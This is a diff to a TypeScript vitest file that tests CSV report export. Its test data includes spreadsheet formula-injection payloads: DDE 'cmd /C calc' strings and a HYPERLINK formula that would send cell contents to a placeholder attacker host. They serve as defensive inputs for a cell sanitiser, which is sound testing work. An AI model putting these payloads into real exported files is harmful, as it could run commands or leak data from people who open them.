@@ -1,10 +1,10 @@
-import path from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { safeCsvCell, safeCsvRows } from '../../../src/lib/report/csv-cell';
 import { figureCsv } from '../../../src/lib/report/figure-csv';
 import { loadReportInputs } from '../../../src/lib/report/report-fs';
 import { buildReport } from '../../../src/lib/report/report';
+import { DATA_DIR } from '../../lib/pinned';
 
 describe('safeCsvCell(value)', () => {
   it.each(['=HYPERLINK("http://x.invalid","click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0'])(
@@ -27,7 +27,7 @@ describe('safeCsvCell(value)', () => {
 
 describe('figureCsv(id, report) with a curated label that looks like a formula', () => {
   it('writes the label as text a spreadsheet will not run, and the signed moves as numbers', () => {
-    const inputs = loadReportInputs(path.join(__dirname, '../../../data'));
+    const inputs = loadReportInputs(DATA_DIR);
     const events = inputs.curated.overview.events;
     const evil = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")';
     inputs.curated.overview.events = events.map((e, i) => (i === 0 ? { ...e, label: { zh: '@SUM(1+1)', en: evil } } : e));
